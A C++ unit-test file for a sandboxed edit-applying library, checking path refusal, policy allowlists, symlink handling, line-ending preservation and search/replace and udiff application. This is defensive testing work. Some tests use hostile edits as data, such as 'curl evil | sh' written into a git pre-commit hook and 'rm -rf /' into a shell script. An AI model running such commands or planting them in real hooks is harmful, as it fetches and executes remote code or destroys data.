#include "edit/apply.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "support/temp_dir.h"

namespace edit {
namespace {

namespace fs = std::filesystem;
using test_support::TempDir;

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

EditBlock block(std::string path, std::string search, std::string replace) {
  EditBlock out;
  out.path = std::move(path);
  out.search = std::move(search);
  out.replace = std::move(replace);
  return out;
}

EditPolicy any_file() {
  EditPolicy policy;
  policy.allow_any = true;
  return policy;
}

// Every entry in `folder`, recursively, relative to it.
std::vector<std::string> entries(const fs::path& folder) {
  std::vector<std::string> out;
  for (const auto& entry : fs::recursive_directory_iterator(folder)) {
    out.push_back(entry.path().lexically_relative(folder).generic_string());
  }
  std::sort(out.begin(), out.end());
  return out;
}

// --- Workspace ---

TEST(WorkspaceTest, ResolvesFilesInsideTheRoot) {
  TempDir dir;
  Workspace workspace(dir.path(), any_file());
  EXPECT_EQ(workspace.root(), fs::weakly_canonical(dir.path()));
  const auto path = workspace.resolve("sub/new.py");
  ASSERT_TRUE(path) << path.error().message;
  EXPECT_EQ(*path, workspace.root() / "sub" / "new.py");
  const auto dotted = workspace.resolve("./a.py");
  ASSERT_TRUE(dotted) << dotted.error().message;
  EXPECT_EQ(*dotted, workspace.root() / "a.py");
}

TEST(WorkspaceTest, RefusesEmptyAbsoluteAndDotDotPaths) {
  TempDir dir;
  Workspace workspace(dir.path(), any_file());

  const auto empty = workspace.resolve("");
  ASSERT_FALSE(empty);
  EXPECT_EQ(empty.error().code, core::ErrorCode::invalid_argument);

  const auto absolute = workspace.resolve("/etc/passwd");
  ASSERT_FALSE(absolute);
  EXPECT_EQ(absolute.error().code, core::ErrorCode::invalid_argument);
  EXPECT_NE(absolute.error().message.find("/etc/passwd"), std::string::npos);
  EXPECT_NE(absolute.error().message.find("absolute path"), std::string::npos);

  for (const char* path : {"../x.py", "sub/../../x.py", "sub/../x.py"}) {
    const auto dotdot = workspace.resolve(path);
    ASSERT_FALSE(dotdot) << path;
    EXPECT_NE(dotdot.error().message.find(path), std::string::npos);
    EXPECT_NE(dotdot.error().message.find("'..' in path"), std::string::npos);
  }

  EXPECT_FALSE(workspace.resolve("."));
  EXPECT_FALSE(workspace.resolve("sub/"));
}

TEST(WorkspaceTest, RefusesSymlinksLeadingOutside) {
  TempDir dir;
  TempDir outside;
  outside.write_file("secret.py", "x = 1\n");
  fs::create_directory_symlink(outside.path(), dir.path() / "link");
  fs::create_symlink(outside.path() / "secret.py", dir.path() / "file.py");
  // A dangling link: writing through it would create a file outside.
  fs::create_symlink(outside.path() / "missing.py", dir.path() / "dangling.py");
  Workspace workspace(dir.path(), any_file());

  for (const char* path : {"link/secret.py", "link/new.py", "file.py", "dangling.py"}) {
    const auto resolved = workspace.resolve(path);
    ASSERT_FALSE(resolved) << path;
    EXPECT_NE(resolved.error().message.find(path), std::string::npos);
    EXPECT_NE(resolved.error().message.find("resolves outside the workspace"), std::string::npos);
  }
}

TEST(WorkspaceTest, FollowsSymlinksThatStayInside) {
  TempDir dir;
  dir.write_file("real/a.py", "x = 1\n");
  fs::create_directory_symlink(dir.path() / "real", dir.path() / "alias");
  Workspace workspace(dir.path(), any_file());
  const auto resolved = workspace.resolve("alias/a.py");
  ASSERT_TRUE(resolved) << resolved.error().message;
  EXPECT_EQ(*resolved, workspace.root() / "real" / "a.py");
}

TEST(WorkspaceTest, PolicyAllowsListedFilesAndPatterns) {
  TempDir dir;
  EditPolicy policy;
  policy.allowed_files = {"experiment.py", "plot.py"};
  policy.allowed_patterns = {"*.txt"};
  Workspace workspace(dir.path(), policy);

  EXPECT_TRUE(workspace.resolve("experiment.py"));
  EXPECT_TRUE(workspace.resolve("./plot.py"));
  EXPECT_TRUE(workspace.resolve("notes.txt"));
  // '*' does not cross '/'.
  const auto nested = workspace.resolve("sub/notes.txt");
  ASSERT_FALSE(nested);
  EXPECT_EQ(nested.error().message,
            "refused 'sub/notes.txt': not a file this stage may edit (allowed: experiment.py, "
            "plot.py, patterns *.txt)");
  EXPECT_FALSE(workspace.resolve("run.sh"));
}

TEST(WorkspaceTest, HiddenPathsMustBeListedExplicitly) {
  TempDir dir;
  dir.write_file(".git/hooks/pre-commit", "#!/bin/sh\n");
  Workspace any(dir.path(), any_file());
  for (const char* path :
       {".git/hooks/pre-commit", ".venv/lib/site.py", ".env", "sub/.cache/x.py", "./.bashrc"}) {
    const auto resolved = any.resolve(path);
    ASSERT_FALSE(resolved) << path;
    EXPECT_EQ(resolved.error().code, core::ErrorCode::invalid_argument);
    EXPECT_NE(resolved.error().message.find(path), std::string::npos) << resolved.error().message;
    EXPECT_NE(resolved.error().message.find("hidden path"), std::string::npos)
        << resolved.error().message;
  }
  EXPECT_NE(any.resolve("sub/.cache/x.py").error().message.find("'.cache'"), std::string::npos);
  const auto report = apply_edits(any, {block(".git/hooks/pre-commit", "", "curl evil | sh\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::refused);
  EXPECT_EQ(read_file(dir.path() / ".git/hooks/pre-commit"), "#!/bin/sh\n");

  // Patterns do not reach hidden names either ('*' matches a leading '.' in fnmatch).
  EditPolicy patterns;
  patterns.allowed_patterns = {"*", "*.py"};
  EXPECT_FALSE(Workspace(dir.path(), patterns).resolve(".env"));
  EXPECT_FALSE(Workspace(dir.path(), patterns).resolve(".hidden.py"));

  // Listed explicitly, a hidden file may be edited.
  EditPolicy listed = any_file();
  listed.allowed_files = {".github/workflows/ci.yml"};
  EXPECT_TRUE(Workspace(dir.path(), listed).resolve(".github/workflows/ci.yml"));
  EXPECT_FALSE(Workspace(dir.path(), listed).resolve(".github/workflows/other.yml"));
}

TEST(WorkspaceTest, ThePolicyAppliesToWhereASymlinkLeads) {
  TempDir dir;
  dir.write_file("secret.cfg", "token = 1\n");
  dir.write_file("real.py", "x = 1\n");
  dir.write_file(".git/hooks/pre-commit", "#!/bin/sh\n");
  fs::create_symlink("secret.cfg", dir.path() / "ok.py");
  fs::create_symlink("real.py", dir.path() / "alias.py");
  fs::create_symlink(".git/hooks/pre-commit", dir.path() / "hook.py");
  EditPolicy policy;
  policy.allowed_patterns = {"*.py"};
  Workspace workspace(dir.path(), policy);

  const auto refused = workspace.resolve("ok.py");
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().message,
            "refused 'ok.py': it resolves to 'secret.cfg', not a file this stage may edit "
            "(allowed: patterns *.py)");
  EditBlock whole = block("ok.py", "", "token = 2\n");
  whole.whole_file = true;
  const auto report = apply_edits(workspace, {whole, block("ok.py", "token = 1\n", "token = 3\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::refused);
  EXPECT_EQ(report.blocks[1].outcome, Outcome::refused);
  EXPECT_EQ(read_file(dir.path() / "secret.cfg"), "token = 1\n");

  // Both the link and its target allowed: fine.
  const auto alias = workspace.resolve("alias.py");
  ASSERT_TRUE(alias) << alias.error().message;
  EXPECT_EQ(*alias, workspace.root() / "real.py");

  // With allow_any, a link into a hidden folder is refused like the hidden path itself.
  const auto hook = Workspace(dir.path(), any_file()).resolve("hook.py");
  ASSERT_FALSE(hook);
  EXPECT_NE(hook.error().message.find("it resolves to '.git/hooks/pre-commit', hidden path"),
            std::string::npos)
      << hook.error().message;
}

TEST(WorkspaceTest, ReadsMissingFileAsNothing) {
  TempDir dir;
  dir.write_file("a.py", "x = 1\n");
  Workspace workspace(dir.path(), any_file());
  const auto present = workspace.read("a.py");
  ASSERT_TRUE(present);
  ASSERT_TRUE(*present);
  EXPECT_EQ(**present, "x = 1\n");
  const auto missing = workspace.read("b.py");
  ASSERT_TRUE(missing);
  EXPECT_FALSE(*missing);
}

TEST(WorkspaceTest, WritesAtomicallyKeepingPermissions) {
  TempDir dir;
  const auto perms = fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec;
  dir.write_file("run.py", "old\n", perms);
  Workspace workspace(dir.path(), any_file());

  ASSERT_TRUE(workspace.write("run.py", "new\n"));
  EXPECT_EQ(read_file(dir.path() / "run.py"), "new\n");
  EXPECT_EQ(fs::status(dir.path() / "run.py").permissions(), perms);

  ASSERT_TRUE(workspace.write("deep/er/new.py", "made\n"));
  EXPECT_EQ(read_file(dir.path() / "deep/er/new.py"), "made\n");

  // No temporary files left behind.
  EXPECT_EQ(entries(dir.path()),
            (std::vector<std::string>{"deep", "deep/er", "deep/er/new.py", "run.py"}));
}

TEST(WorkspaceTest, WriteIsRefusedLikeResolve) {
  TempDir dir;
  Workspace workspace(dir.path(), any_file());
  const auto written = workspace.write("../escape.py", "x\n");
  ASSERT_FALSE(written);
  EXPECT_EQ(written.error().code, core::ErrorCode::invalid_argument);
  EXPECT_FALSE(fs::exists(dir.path().parent_path() / "escape.py"));
}

TEST(WorkspaceTest, ListsExistingAllowedFiles) {
  TempDir dir;
  dir.write_file("experiment.py", "");
  dir.write_file("helper.py", "");
  dir.write_file("sub/deep.py", "");
  dir.write_file("notes.md", "");
  dir.write_file(".hidden.py", "");
  dir.write_file(".git/config", "");

  EditPolicy policy;
  policy.allowed_files = {"experiment.py", "plot.py"};  // plot.py does not exist
  policy.allowed_patterns = {"*.py"};
  EXPECT_EQ(Workspace(dir.path(), policy).existing_files(),
            (std::vector<std::string>{"experiment.py", "helper.py"}));

  EXPECT_EQ(Workspace(dir.path(), any_file()).existing_files(),
            (std::vector<std::string>{"experiment.py", "helper.py", "notes.md", "sub/deep.py"}));
}

TEST(WorkspaceTest, ListingSkipsEntriesWhoseTypeCannotBeRead) {
  // A dangling hidden symlink makes is_directory() fail; that must not end the walk. Twenty
  // folders, so that some file comes after some broken link in any directory order.
  TempDir dir;
  std::vector<std::string> expected;
  for (int i = 0; i < 20; ++i) {
    const std::string folder = "d" + std::to_string(10 + i);
    dir.write_file(folder + "/f.py", "");
    fs::create_symlink(dir.path() / "missing", dir.path() / folder / ".broken");
    expected.push_back(folder + "/f.py");
  }
  EXPECT_EQ(Workspace(dir.path(), any_file()).existing_files(), expected);
  EditPolicy policy;
  policy.allowed_patterns = {"*/*.py"};
  EXPECT_EQ(Workspace(dir.path(), policy).existing_files(), expected);
}

// --- apply_edits ---

TEST(OutcomeTest, Names) {
  EXPECT_EQ(to_string(Outcome::applied), "applied");
  EXPECT_EQ(to_string(Outcome::created), "created");
  EXPECT_EQ(to_string(Outcome::already_applied), "already_applied");
  EXPECT_EQ(to_string(Outcome::failed), "failed");
  EXPECT_EQ(to_string(Outcome::refused), "refused");
}

TEST(ApplyEditsTest, AppliesAnExactBlock) {
  TempDir dir;
  dir.write_file("a.py", "x = 1\ny = 2\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(workspace, {block("a.py", "y = 2\n", "y = 3\n")});
  ASSERT_EQ(report.blocks.size(), 1u);
  EXPECT_EQ(report.blocks[0].outcome, Outcome::applied);
  EXPECT_EQ(report.blocks[0].match, MatchKind::exact);
  EXPECT_EQ(report.blocks[0].path, "a.py");
  EXPECT_TRUE(report.all_ok());
  EXPECT_EQ(report.changed_files, std::vector<std::string>{"a.py"});
  EXPECT_EQ(read_file(dir.path() / "a.py"), "x = 1\ny = 3\n");
}

TEST(ApplyEditsTest, ReportsTheRuleThatMatched) {
  TempDir dir;
  dir.write_file("a.py", "class A:\n    def f(self):\n        return 1\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {block("a.py", "def f(self):\n    return 1\n", "def f(self):\n    return 2\n")});
  ASSERT_EQ(report.blocks[0].outcome, Outcome::applied);
  EXPECT_EQ(report.blocks[0].match, MatchKind::indentation);
  EXPECT_EQ(read_file(dir.path() / "a.py"), "class A:\n    def f(self):\n        return 2\n");
}

TEST(ApplyEditsTest, FirstOccurrenceOnly) {
  TempDir dir;
  dir.write_file("a.py", "f()\nf()\n");
  Workspace workspace(dir.path(), any_file());
  apply_edits(workspace, {block("a.py", "f()\n", "g()\n")});
  EXPECT_EQ(read_file(dir.path() / "a.py"), "g()\nf()\n");
}

TEST(ApplyEditsTest, BlocksApplyInOrderOnTheUpdatedContent) {
  TempDir dir;
  dir.write_file("a.py", "a = 1\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {block("a.py", "a = 1\n", "a = 2\n"), block("a.py", "a = 2\n", "a = 3\nb = 4\n"),
                  block("b.py", "", "import a\n"), block("b.py", "", "print(a.a)\n")});
  EXPECT_TRUE(report.all_ok());
  EXPECT_EQ(report.blocks[2].outcome, Outcome::created);
  EXPECT_EQ(report.blocks[3].outcome, Outcome::applied);
  EXPECT_EQ(read_file(dir.path() / "a.py"), "a = 3\nb = 4\n");
  EXPECT_EQ(read_file(dir.path() / "b.py"), "import a\nprint(a.a)\n");
  // Each changed file once, in the order first changed.
  EXPECT_EQ(report.changed_files, (std::vector<std::string>{"a.py", "b.py"}));
}

TEST(ApplyEditsTest, AFailedBlockDoesNotStopLaterOnes) {
  TempDir dir;
  dir.write_file("a.py", "a = 1\nb = 2\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {block("a.py", "zzz\n", "yyy\n"), block("a.py", "b = 2\n", "b = 5\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_EQ(report.blocks[1].outcome, Outcome::applied);
  EXPECT_FALSE(report.all_ok());
  EXPECT_EQ(read_file(dir.path() / "a.py"), "a = 1\nb = 5\n");
}

TEST(ApplyEditsTest, FailureSuggestsTheClosestLines) {
  TempDir dir;
  dir.write_file("train.py",
                 "import torch\n"
                 "\n"
                 "def train(model):\n"
                 "    lr = 0.001\n"
                 "    epochs = 10\n"
                 "    return model\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {block("train.py", "    lr = 0.01\n    epochs = 10\n", "    lr = 0.1\n")});
  ASSERT_EQ(report.blocks[0].outcome, Outcome::failed);
  const std::string& message = report.blocks[0].message;
  EXPECT_TRUE(message.starts_with("SEARCH block in train.py did not match any lines exactly"))
      << message;
  EXPECT_NE(message.find("Did you mean to match these lines?\n```\n"
                         "import torch\n\ndef train(model):\n    lr = 0.001\n    epochs = 10\n"
                         "    return model\n```"),
            std::string::npos)
      << message;
  EXPECT_TRUE(report.changed_files.empty());
}

TEST(ApplyEditsTest, FailureNotesReplaceLinesAlreadyInTheFile) {
  TempDir dir;
  dir.write_file("a.py", "x = 1\nz = 3\n");
  Workspace workspace(dir.path(), any_file());
  // A deletion whose SEARCH is not there: its REPLACE lines are, being part of the SEARCH.
  const auto report = apply_edits(workspace, {block("a.py", "x = 1\ny = 2\n", "x = 1\n")});
  ASSERT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_NE(report.blocks[0].message.find("the REPLACE text is already in a.py"), std::string::npos)
      << report.blocks[0].message;
}

TEST(ApplyEditsTest, NoReplaceNoteForTextInsideALine) {
  TempDir dir;
  dir.write_file("a.py", "result = compute(x)  # main\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(workspace, {block("a.py", "value = 2\n", "compute(x)\n")});
  ASSERT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_EQ(report.blocks[0].message.find("REPLACE text is already"), std::string::npos)
      << report.blocks[0].message;
}

TEST(ApplyEditsTest, ADeletionWhoseSearchIsMissingIsNotAlreadyApplied) {
  TempDir dir;
  dir.write_file("a.py", "x = 1\nz = 3\n");
  Workspace workspace(dir.path(), any_file());
  // The REPLACE text is in the file, but it was part of the SEARCH text: that proves nothing.
  const auto report = apply_edits(workspace, {block("a.py", "x = 1\ny = 2\n", "x = 1\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_FALSE(report.all_ok());
}

TEST(ApplyEditsTest, AReplaceFoundOnlyByFuzzyRulesIsNotAlreadyApplied) {
  TempDir dir;
  dir.write_file("a.py", "def f(x):\n    return x\n\nvalue = 1   \n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {// Made up SEARCH; REPLACE is in the file only with another indentation...
                  block("a.py", "def g(y):\n    return y\n", "return x\n"),
                  // ...or only ignoring trailing whitespace...
                  block("a.py", "value = 0\n", "value = 1\n"),
                  // ...or only through `...`.
                  block("a.py", "def h():\n    pass\n", "def f(x):\n...\nvalue = 1   \n")});
  for (std::size_t i = 0; i < report.blocks.size(); ++i) {
    EXPECT_EQ(report.blocks[i].outcome, Outcome::failed) << i << ": " << report.blocks[i].message;
  }
}

TEST(ApplyEditsTest, LargeUnmatchedSearchCompletes) {
  // 100,000 lines, a 2,000-line SEARCH that is nowhere: matching, the "already applied" check
  // and the "did you mean" search must all finish quickly (no timing is asserted).
  TempDir dir;
  std::string content;
  for (int i = 0; i < 100000; ++i) {
    content +=
        "    value_" + std::to_string(i) + " = compute(input_" + std::to_string(i % 97) + ")\n";
  }
  dir.write_file("big.py", content);
  std::string search;
  for (int i = 0; i < 2000; ++i) {
    search += "print('unrelated " + std::to_string(i) + "')\n";
  }
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(workspace, {block("big.py", search, "x = 1\n")});
  ASSERT_EQ(report.blocks.size(), 1u);
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
}

TEST(ApplyEditsTest, AlreadyApplied) {
  TempDir dir;
  dir.write_file("a.py", "lr = 0.1\nepochs = 5\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(workspace, {block("a.py", "lr = 0.01\n", "lr = 0.1\n")});
  ASSERT_EQ(report.blocks[0].outcome, Outcome::already_applied);
  EXPECT_NE(report.blocks[0].message.find("already"), std::string::npos);
  EXPECT_TRUE(report.all_ok());
  EXPECT_TRUE(report.changed_files.empty());
}

TEST(ApplyEditsTest, CreatesAndAppends) {
  TempDir dir;
  dir.write_file("a.py", "x = 1\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {block("pkg/new.py", "", "def f():\n    pass\n"), block("a.py", "", "y = 2\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::created);
  EXPECT_EQ(report.blocks[0].path, "pkg/new.py");
  EXPECT_EQ(report.blocks[1].outcome, Outcome::applied);
  EXPECT_EQ(read_file(dir.path() / "pkg/new.py"), "def f():\n    pass\n");
  EXPECT_EQ(read_file(dir.path() / "a.py"), "x = 1\ny = 2\n");
}

TEST(ApplyEditsTest, SearchInAMissingFileFails) {
  TempDir dir;
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(workspace, {block("nope.py", "x = 1\n", "x = 2\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_NE(report.blocks[0].message.find("nope.py does not exist"), std::string::npos);
  EXPECT_FALSE(fs::exists(dir.path() / "nope.py"));
}

TEST(ApplyEditsTest, WholeFileBlocks) {
  TempDir dir;
  dir.write_file("a.py", "old\n");
  Workspace workspace(dir.path(), any_file());
  EditBlock replace_all = block("a.py", "", "new\ncontent\n");
  replace_all.whole_file = true;
  EditBlock create = block("b.py", "", "fresh\n");
  create.whole_file = true;
  EditBlock same = block("a.py", "", "new\ncontent\n");
  same.whole_file = true;
  const auto report = apply_edits(workspace, {replace_all, create, same});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::applied);
  EXPECT_EQ(report.blocks[1].outcome, Outcome::created);
  EXPECT_EQ(report.blocks[2].outcome, Outcome::already_applied);
  EXPECT_EQ(read_file(dir.path() / "a.py"), "new\ncontent\n");
  EXPECT_EQ(read_file(dir.path() / "b.py"), "fresh\n");
}

TEST(ApplyEditsTest, EmptyFiles) {
  TempDir dir;
  dir.write_file("empty.py", "");
  dir.write_file("empty2.py", "");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {block("empty.py", "x\n", "y\n"), block("empty2.py", "", "first = 1\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_EQ(report.blocks[1].outcome, Outcome::applied);
  EXPECT_EQ(read_file(dir.path() / "empty.py"), "");
  EXPECT_EQ(read_file(dir.path() / "empty2.py"), "first = 1\n");
}

TEST(ApplyEditsTest, DeletingAllContentLeavesAnEmptyFile) {
  TempDir dir;
  dir.write_file("a.py", "a\nb\n");
  dir.write_file("b.py", "a\nb");  // no final newline
  Workspace workspace(dir.path(), any_file());
  const auto report =
      apply_edits(workspace, {block("a.py", "a\nb\n", ""), block("b.py", "a\nb\n", "")});
  EXPECT_TRUE(report.all_ok());
  ASSERT_TRUE(fs::exists(dir.path() / "a.py"));
  EXPECT_EQ(read_file(dir.path() / "a.py"), "");
  ASSERT_TRUE(fs::exists(dir.path() / "b.py"));
  EXPECT_EQ(read_file(dir.path() / "b.py"), "");
}

TEST(ApplyEditsTest, CrlfFilesStayCrlf) {
  TempDir dir;
  dir.write_file("a.py", "a = 1\r\nb = 2\r\nc = 3\r\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {block("a.py", "b = 2\n", "b = 20\nb2 = 4\n"), block("a.py", "", "d = 5\n")});
  EXPECT_TRUE(report.all_ok());
  EXPECT_EQ(report.blocks[0].match, MatchKind::exact);
  EXPECT_EQ(read_file(dir.path() / "a.py"), "a = 1\r\nb = 20\r\nb2 = 4\r\nc = 3\r\nd = 5\r\n");
}

TEST(ApplyEditsTest, MostlyCrlfFilesAreWrittenCrlf) {
  TempDir dir;
  // Three CRLF line ends and one LF: a CRLF file with a stray LF.
  dir.write_file("a.py", "a = 1\r\nb = 2\r\nc = 3\nd = 4\r\n");
  // The other way round: an LF file with a stray CRLF keeps its bytes.
  dir.write_file("b.py", "a = 1\nb = 2\nc = 3\r\nd = 4\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(workspace, {block("a.py", "b = 2\n", "b = 20\nb2 = 4\n"),
                                              block("b.py", "b = 2\n", "b = 20\nb2 = 4\n")});
  EXPECT_TRUE(report.all_ok());
  EXPECT_EQ(report.blocks[0].match, MatchKind::exact);
  EXPECT_EQ(read_file(dir.path() / "a.py"), "a = 1\r\nb = 20\r\nb2 = 4\r\nc = 3\r\nd = 4\r\n");
  EXPECT_EQ(read_file(dir.path() / "b.py"), "a = 1\nb = 20\nb2 = 4\nc = 3\r\nd = 4\n");
}

TEST(ApplyEditsTest, FileWithoutFinalNewlineKeepsLackingIt) {
  TempDir dir;
  dir.write_file("a.py", "a = 1\nb = 2");
  dir.write_file("b.py", "x = 1");
  dir.write_file("c.py", "c = 1\r\nd = 2");
  Workspace workspace(dir.path(), any_file());
  const auto report =
      apply_edits(workspace, {block("a.py", "b = 2", "b = 3\n"), block("b.py", "", "y = 2\n"),
                              block("c.py", "d = 2\n", "d = 3\n")});
  EXPECT_TRUE(report.all_ok());
  EXPECT_EQ(read_file(dir.path() / "a.py"), "a = 1\nb = 3");
  EXPECT_EQ(read_file(dir.path() / "b.py"), "x = 1\ny = 2");
  EXPECT_EQ(read_file(dir.path() / "c.py"), "c = 1\r\nd = 3");
}

TEST(ApplyEditsTest, RedirectsToTheOneFileThatHasTheSearchText) {
  TempDir dir;
  dir.write_file("experiment.py", "import model\n");
  dir.write_file("model.py", "hidden = 64\n");
  EditPolicy policy;
  policy.allowed_files = {"experiment.py", "model.py"};
  Workspace workspace(dir.path(), policy);
  const auto report =
      apply_edits(workspace, {block("experiment.py", "hidden = 64\n", "hidden = 128\n")});
  ASSERT_EQ(report.blocks[0].outcome, Outcome::applied);
  EXPECT_EQ(report.blocks[0].path, "model.py");
  EXPECT_EQ(report.blocks[0].message,
            "SEARCH text not in experiment.py; applied to model.py, where it is");
  EXPECT_EQ(read_file(dir.path() / "model.py"), "hidden = 128\n");
  EXPECT_EQ(read_file(dir.path() / "experiment.py"), "import model\n");
  EXPECT_EQ(report.changed_files, std::vector<std::string>{"model.py"});
}

TEST(ApplyEditsTest, NoRedirectWhenSeveralFilesHaveTheSearchText) {
  TempDir dir;
  dir.write_file("experiment.py", "import model\n");
  dir.write_file("model.py", "hidden = 64\n");
  dir.write_file("other.py", "hidden = 64\n");
  Workspace workspace(dir.path(), any_file());
  const auto report =
      apply_edits(workspace, {block("experiment.py", "hidden = 64\n", "hidden = 128\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_EQ(report.blocks[0].path, "experiment.py");
  EXPECT_EQ(read_file(dir.path() / "model.py"), "hidden = 64\n");
  EXPECT_EQ(read_file(dir.path() / "other.py"), "hidden = 64\n");
}

TEST(ApplyEditsTest, NoRedirectAmongTooManyFiles) {
  TempDir dir;
  dir.write_file("experiment.py", "import model\n");
  dir.write_file("model.py", "hidden = 64\n");
  for (int i = 0; i < 200; ++i) {
    dir.write_file("other/f" + std::to_string(i) + ".py", "x = " + std::to_string(i) + "\n");
  }
  Workspace workspace(dir.path(), any_file());
  const auto report =
      apply_edits(workspace, {block("experiment.py", "hidden = 64\n", "hidden = 128\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_EQ(read_file(dir.path() / "model.py"), "hidden = 64\n");
}

TEST(ApplyEditsTest, NoRedirectToFilesThePolicyRefuses) {
  TempDir dir;
  dir.write_file("experiment.py", "import model\n");
  dir.write_file("model.py", "hidden = 64\n");
  EditPolicy policy;
  policy.allowed_files = {"experiment.py"};
  Workspace workspace(dir.path(), policy);
  const auto report =
      apply_edits(workspace, {block("experiment.py", "hidden = 64\n", "hidden = 128\n")});
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_EQ(read_file(dir.path() / "model.py"), "hidden = 64\n");
}

TEST(ApplyEditsTest, RefusedPaths) {
  TempDir dir;
  TempDir outside;
  outside.write_file("target.py", "x = 1\n");
  fs::create_directory_symlink(outside.path(), dir.path() / "out");
  dir.write_file("experiment.py", "x = 1\n");
  EditPolicy policy;
  policy.allowed_files = {"experiment.py"};
  policy.allowed_patterns = {"*.py", "out/*.py"};
  Workspace workspace(dir.path(), policy);

  const auto report = apply_edits(
      workspace, {block("/etc/hosts", "x\n", "y\n"), block("../x.py", "", "evil\n"),
                  block("out/target.py", "x = 1\n", "x = 2\n"), block("run.sh", "", "rm -rf /\n"),
                  block("experiment.py", "x = 1\n", "x = 2\n")});
  ASSERT_EQ(report.blocks.size(), 5u);
  for (std::size_t i = 0; i < 4; ++i) {
    EXPECT_EQ(report.blocks[i].outcome, Outcome::refused) << i;
    EXPECT_NE(report.blocks[i].message.find(report.blocks[i].block.path), std::string::npos);
  }
  EXPECT_NE(report.blocks[0].message.find("absolute path"), std::string::npos);
  EXPECT_NE(report.blocks[1].message.find("'..' in path"), std::string::npos);
  EXPECT_NE(report.blocks[2].message.find("resolves outside the workspace"), std::string::npos);
  EXPECT_NE(report.blocks[3].message.find("not a file this stage may edit"), std::string::npos);
  EXPECT_EQ(report.blocks[4].outcome, Outcome::applied);
  EXPECT_FALSE(report.all_ok());

  EXPECT_EQ(read_file(outside.path() / "target.py"), "x = 1\n");
  EXPECT_FALSE(fs::exists(dir.path() / "run.sh"));
  EXPECT_FALSE(fs::exists(dir.path().parent_path() / "x.py"));
  EXPECT_EQ(read_file(dir.path() / "experiment.py"), "x = 2\n");
}

// --- udiff hunks, parsed and applied ---

std::vector<EditBlock> udiff(const std::string& diff) {
  const auto parsed = parse_udiff("```diff\n" + diff + "```\n");
  EXPECT_TRUE(parsed) << parsed.error().message;
  return parsed ? parsed->edits : std::vector<EditBlock>{};
}

TEST(ApplyUdiffTest, AddedLinesWithoutContextAreNotAppended) {
  TempDir dir;
  dir.write_file("a.py", "import os\n\ndef main():\n    pass\n");
  Workspace workspace(dir.path(), any_file());
  const auto report =
      apply_edits(workspace, udiff("--- a.py\n+++ a.py\n@@ -1,0 +2,1 @@\n+import sys\n"));
  ASSERT_EQ(report.blocks.size(), 1u);
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_NE(report.blocks[0].message.find("hunk at line 4"), std::string::npos)
      << report.blocks[0].message;
  EXPECT_NE(report.blocks[0].message.find("include a few unchanged lines"), std::string::npos)
      << report.blocks[0].message;
  EXPECT_EQ(read_file(dir.path() / "a.py"), "import os\n\ndef main():\n    pass\n");

  // Nor do they create a file that is not marked new.
  const auto missing = apply_edits(workspace, udiff("--- b.py\n+++ b.py\n@@ @@\n+x = 1\n"));
  EXPECT_EQ(missing.blocks[0].outcome, Outcome::failed);
  EXPECT_NE(missing.blocks[0].message.find("`--- /dev/null`"), std::string::npos);
  EXPECT_FALSE(fs::exists(dir.path() / "b.py"));
}

TEST(ApplyUdiffTest, DevNullCreatesButNeverAppends) {
  TempDir dir;
  dir.write_file("a.py", "x = 1\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace,
      udiff("--- /dev/null\n+++ b/a.py\n@@ -0,0 +1 @@\n+y = 2\n"
            "--- /dev/null\n+++ b/new.py\n@@ -0,0 +1,2 @@\n+a = 1\n@@ -0,0 +3 @@\n+b = 2\n"));
  ASSERT_EQ(report.blocks.size(), 2u);
  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
  EXPECT_NE(report.blocks[0].message.find("a.py already exists"), std::string::npos)
      << report.blocks[0].message;
  EXPECT_EQ(read_file(dir.path() / "a.py"), "x = 1\n");
  EXPECT_EQ(report.blocks[1].outcome, Outcome::created);
  EXPECT_EQ(read_file(dir.path() / "new.py"), "a = 1\nb = 2\n");

  // Sent again, the new file is already there with this content.
  const auto again =
      apply_edits(workspace, udiff("--- /dev/null\n+++ b/new.py\n@@ @@\n+a = 1\n+b = 2\n"));
  EXPECT_EQ(again.blocks[0].outcome, Outcome::already_applied);
}

TEST(ApplyEditsTest, WritesAtomicallyAndKeepsPermissions) {
  TempDir dir;
